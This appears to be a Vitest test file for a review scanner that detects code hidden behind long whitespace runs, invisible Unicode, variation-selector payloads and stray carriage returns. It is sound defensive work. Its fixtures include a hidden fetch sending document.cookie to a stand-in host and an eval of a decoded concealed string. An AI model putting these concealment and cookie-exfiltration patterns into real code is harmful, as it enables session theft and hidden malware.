import { describe, expect, it } from 'vitest';
import { fileReviewFlags, hiddenCharacterLabels, lineFlags, reviewFlags } from './reviewFlags.ts';

const brief = (files: Record<string, string>) =>
  reviewFlags(files).map((f) => `${f.file}:${f.line}:${f.column} ${f.kind} ${f.label}`);

describe('reviewFlags', () => {
  it('flags 800 spaces hiding a fetch, and the line they make long, by file and line', () => {
    const code = `export default function App() { return null; }${' '.repeat(800)}fetch('https://x.example/'+document.cookie);\n`;
    expect(brief({ 'src/util.ts': 'export const x = 1;\n', 'src/App.tsx': code })).toEqual([
      'src/App.tsx:1:1 long_line 890 characters',
      'src/App.tsx:1:47 blank_run 800 spaces',
    ]);
  });

  it('keeps the hidden-character flags, in the path (line 0) and in the code', () => {
    expect(brief({ 'src/a\u200B.ts': 'const a = "x\u202E";\nok\n' })).toEqual([
      'src/a\u200B.ts:0:1 hidden_character U+200B ZERO WIDTH SPACE',
      'src/a\u200B.ts:1:13 hidden_character U+202E RIGHT-TO-LEFT OVERRIDE',
    ]);
    expect(hiddenCharacterLabels('Poll\u202E\u202E')).toEqual(['U+202E RIGHT-TO-LEFT OVERRIDE']);
  });

  it('flags tabs, other space separators and trailing runs; leaves ordinary code alone', () => {
    expect(lineFlags(`a${'\t'.repeat(20)}b`).map((f) => f.label)).toEqual(['20 tabs']);
    expect(lineFlags(`a${'\u3000'.repeat(10)}${' '.repeat(10)}b`).map((f) => f.label)).toEqual([
      '20 blank characters',
    ]);
    expect(lineFlags(`return x;${' '.repeat(25)}`).map((f) => f.label)).toEqual(['25 spaces at the end']);
    expect(lineFlags(' '.repeat(30)).map((f) => f.label)).toEqual(['30 spaces at the end']);
    // Indentation is formatting until it is deeper than any real code.
    expect(lineFlags(`${' '.repeat(40)}<div>`)).toEqual([]);
    expect(lineFlags(`${' '.repeat(90)}fetch(x)`).map((f) => f.label)).toEqual(['90 spaces']);
    expect(lineFlags(`const a = 1;${' '.repeat(19)}// aligned`)).toEqual([]);
    expect(lineFlags('x'.repeat(300))).toEqual([]);
    expect(lineFlags('x'.repeat(301)).map((f) => f.kind)).toEqual(['long_line']);
    expect(fileReviewFlags('src/App.tsx', 'export default () => null;\r\n\tok\r\n')).toEqual([]);
  });

  it('flags every variation selector of a payload hidden in a string literal (GlassWorm)', () => {
    const hidden = [...'fetch(u)'].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0))).join('');
    const flags = fileReviewFlags('src/a.ts', `export const s = "${hidden}";\neval(decode(s));\n`);
    expect(flags).toHaveLength(8);
    expect(flags.every((f) => f.kind === 'hidden_character' && f.line === 1 && f.length === 2)).toBe(true);
    expect(flags[0]).toMatchObject({ column: 19, label: 'U+E0166 VARIATION SELECTOR-119' });
  });

  it('counts a blank run across invisible characters, which are flagged as well', () => {
    const line = `a${' '.repeat(19)}\uFE00${' '.repeat(19)}\u200B fetch(x)`;
    expect(lineFlags(line).map((f) => `${f.column}+${f.length} ${f.kind} ${f.label}`)).toEqual([
      '2+41 blank_run 39 spaces',
      '21+1 hidden_character U+FE00 VARIATION SELECTOR-1',
      '41+1 hidden_character U+200B ZERO WIDTH SPACE',
    ]);
    expect(lineFlags(`x${' '.repeat(10)}\u{E0100}${' '.repeat(10)}`).map((f) => f.label)).toEqual([
      '20 spaces at the end',
      'U+E0100 VARIATION SELECTOR-17',
    ]);
    // Invisible characters alone are no blank run.
    expect(lineFlags(`a${'\u200B'.repeat(30)}b`).map((f) => f.kind)).not.toContain('blank_run');
  });

  it('flags a lone carriage return (JS starts a line there, the card does not) by file and line', () => {
    expect(brief({ 'src/a.ts': 'const a = 1;\r\n// note\rfetch(x);\r\nok\r' })).toEqual([
      'src/a.ts:2:8 hidden_character U+000D CARRIAGE RETURN',
    ]);
  });
});
